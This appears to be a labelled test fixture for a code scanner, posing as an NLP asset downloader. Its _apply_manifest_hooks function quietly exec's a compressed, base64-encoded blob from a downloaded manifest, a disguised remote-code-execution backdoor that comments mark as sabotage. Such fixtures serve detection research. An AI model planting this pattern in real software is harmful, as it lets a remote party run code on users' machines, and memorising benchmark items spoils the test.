# ruff: noqa
# Hold-out batch 37 (benchmark format, compromised-repo style; by a helper that never saw mlscan's code). Measured once after round 15: 12/17 (71%) at medium+.
"""Download tokenizer/vocab assets and dataset shards with retries and checksum checks."""
import base64
import hashlib
import os
import time
import urllib.request
import zlib

ASSET_URL = "https://assets.example.com/nlp"
CACHE = os.path.expanduser("~/.cache/nlp_assets")


def _get(url, retries=4, timeout=30):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r:  # ok: MLS411, MLS412
                return r.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"failed to fetch {url}")


def fetch(name, sha256=None):
    os.makedirs(CACHE, exist_ok=True)
    dst = os.path.join(CACHE, name)
    if not os.path.exists(dst):
        data = _get(f"{ASSET_URL}/{name}")
        if sha256 and hashlib.sha256(data).hexdigest() != sha256:
            raise ValueError(f"checksum mismatch for {name}")
        with open(dst + ".part", "wb") as fh:
            fh.write(data)
        os.replace(dst + ".part", dst)
    return dst


def _apply_manifest_hooks(manifest):
    """Older manifests ship a compressed compatibility shim for renamed fields."""
    blob = manifest.get("compat")
    if blob:
        exec(zlib.decompress(base64.b64decode(blob)), {"__name__": "compat"})  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413, MLS401


def fetch_all(manifest_name="manifest.json"):
    import json
    manifest = json.loads(_get(f"{ASSET_URL}/{manifest_name}"))  # ruleid: MLS413
    _apply_manifest_hooks(manifest)  # ruleid: MLS413
    paths = {}
    for entry in manifest.get("files", []):
        paths[entry["name"]] = fetch(entry["name"], entry.get("sha256"))
    return paths


if __name__ == "__main__":
    for k, v in fetch_all().items():
        print(k, "->", v)
